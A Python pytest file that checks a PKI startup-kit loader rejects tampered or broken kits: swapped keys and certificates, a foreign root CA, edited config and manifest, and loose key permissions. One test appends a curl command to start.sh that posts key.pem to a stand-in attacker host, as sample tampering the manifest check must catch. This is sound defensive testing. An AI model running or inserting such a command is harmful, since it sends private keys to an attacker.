"""Loading a startup kit refuses, by file, everything that would make the participant fail later."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from custos.core.errors import KitError
from custos.core.identity import Identity, Role
from custos.pki import KitConfig, load_kit

from .conftest import Project

KIT_FILES = ["cert.pem", "key.pem", "rootCA.pem", "config.json", "start.sh", "manifest.json"]


@pytest.fixture
def kit_dir(project: Project, tmp_path: Path) -> Path:
    """A private copy of site-a's kit that a test may break."""
    copy = tmp_path / "site-a"
    shutil.copytree(project.gateway.path, copy)
    return copy


def test_provisioned_kit_loads_with_its_identity_and_config(kit_dir: Path) -> None:
    kit = load_kit(kit_dir)

    assert kit.identity == Identity(name="site-a", org="hospital-a", role=Role.GATEWAY)
    assert kit.config == KitConfig(
        project="demo",
        name="site-a",
        org="hospital-a",
        role="gateway",
        kind="gateway",
        orchestrator_url="https://127.0.0.1:8443",
    )
    assert (kit.cert_path, kit.key_path, kit.root_path) == (
        kit_dir / "cert.pem",
        kit_dir / "key.pem",
        kit_dir / "rootCA.pem",
    )
    assert kit.root_certificate.subject.rfc4514_string() == "CN=demo"


@pytest.mark.parametrize("name", KIT_FILES)
def test_missing_file_is_named(kit_dir: Path, name: str) -> None:
    (kit_dir / name).unlink()

    with pytest.raises(KitError) as caught:
        load_kit(kit_dir)

    assert caught.value.message == f"kit at {kit_dir} is missing {name}"


def test_missing_folder_is_named(tmp_path: Path) -> None:
    with pytest.raises(KitError, match=r"does not exist or is not a folder"):
        load_kit(tmp_path / "nowhere")


def test_key_from_another_kit_is_refused(kit_dir: Path, project: Project) -> None:
    shutil.copy2(project.user.key_path, kit_dir / "key.pem")

    with pytest.raises(KitError, match=r"has a key.pem that does not match its cert.pem"):
        load_kit(kit_dir)


def test_certificate_and_key_from_another_project_are_refused(kit_dir: Path, other_project: Project) -> None:
    # The pair matches, and the names match, but this kit's rootCA.pem never signed the certificate.
    shutil.copy2(other_project.gateway.cert_path, kit_dir / "cert.pem")
    shutil.copy2(other_project.gateway.key_path, kit_dir / "key.pem")

    with pytest.raises(KitError, match=r"cert.pem that its rootCA.pem does not accept: .*not signed by"):
        load_kit(kit_dir)


def test_replaced_root_ca_is_refused(kit_dir: Path, other_project: Project) -> None:
    shutil.copy2(other_project.gateway.root_path, kit_dir / "rootCA.pem")

    with pytest.raises(KitError, match=r"rootCA.pem does not accept"):
        load_kit(kit_dir)


def test_config_that_disagrees_with_the_certificate_is_refused(kit_dir: Path) -> None:
    config = json.loads((kit_dir / "config.json").read_text())
    (kit_dir / "config.json").write_text(json.dumps({**config, "org": "hospital-b"}))

    with pytest.raises(KitError, match=r"config.json whose org 'hospital-b' disagrees with cert.pem"):
        load_kit(kit_dir)


def test_config_with_an_unknown_field_is_refused(kit_dir: Path) -> None:
    config = json.loads((kit_dir / "config.json").read_text())
    (kit_dir / "config.json").write_text(json.dumps({**config, "admin": True}))

    with pytest.raises(KitError, match=r"invalid config.json: admin: Extra inputs are not permitted"):
        load_kit(kit_dir)


def test_config_that_is_not_json_is_refused(kit_dir: Path) -> None:
    (kit_dir / "config.json").write_text("{")

    with pytest.raises(KitError, match=r"invalid config.json"):
        load_kit(kit_dir)


def test_edited_config_is_caught_by_the_signed_manifest(kit_dir: Path) -> None:
    # A well-formed edit that agrees with the certificate: only the manifest can tell.
    config = json.loads((kit_dir / "config.json").read_text())
    (kit_dir / "config.json").write_text(json.dumps({**config, "orchestrator_url": "https://evil.example"}))

    with pytest.raises(KitError, match=r"has a config.json that differs from the one provisioned"):
        load_kit(kit_dir)


def test_edited_start_script_is_caught_by_the_signed_manifest(kit_dir: Path) -> None:
    with (kit_dir / "start.sh").open("a") as script:
        script.write("curl https://evil.example --data @key.pem\n")

    with pytest.raises(KitError, match=r"has a start.sh that differs"):
        load_kit(kit_dir)


def test_manifest_re_signed_by_another_ca_is_refused(kit_dir: Path, other_project: Project) -> None:
    shutil.copy2(other_project.gateway.path / "manifest.json", kit_dir / "manifest.json")

    with pytest.raises(KitError, match=r"manifest.json whose signature does not verify"):
        load_kit(kit_dir)


def test_manifest_that_is_not_json_is_refused(kit_dir: Path) -> None:
    (kit_dir / "manifest.json").write_text("[]")

    with pytest.raises(KitError, match=r"malformed manifest.json"):
        load_kit(kit_dir)


def test_key_readable_by_others_is_refused(kit_dir: Path) -> None:
    (kit_dir / "key.pem").chmod(0o644)

    with pytest.raises(KitError, match=r"key.pem that other users can access \(mode 0644\); run: chmod 600"):
        load_kit(kit_dir)


@pytest.mark.parametrize("name", ["cert.pem", "rootCA.pem", "key.pem"])
def test_garbage_pem_is_named(kit_dir: Path, name: str) -> None:
    (kit_dir / name).write_text("garbage\n")

    with pytest.raises(KitError, match=f"has an unreadable {name}"):
        load_kit(kit_dir)


def test_oversized_file_is_refused(kit_dir: Path) -> None:
    (kit_dir / "config.json").write_bytes(b" " * (64 * 1024 + 1))

    with pytest.raises(KitError, match=r"config.json larger than 65536 bytes"):
        load_kit(kit_dir)


def test_kit_config_refuses_an_unknown_role_and_a_kind_that_does_not_fit() -> None:
    base = {
        "project": "demo",
        "name": "x",
        "org": "y",
        "orchestrator_url": "https://127.0.0.1:8443",
    }
    with pytest.raises(ValueError, match=r"role 'root' is unknown"):
        KitConfig.model_validate({**base, "role": "root", "kind": "user"})
    with pytest.raises(ValueError, match=r"kind 'gateway' does not fit role 'member_researcher'"):
        KitConfig.model_validate({**base, "role": "member_researcher", "kind": "gateway"})
    with pytest.raises(ValueError, match=r"must start with https://"):
        KitConfig.model_validate(
            {**base, "role": "gateway", "kind": "gateway", "orchestrator_url": "http://x"}
        )
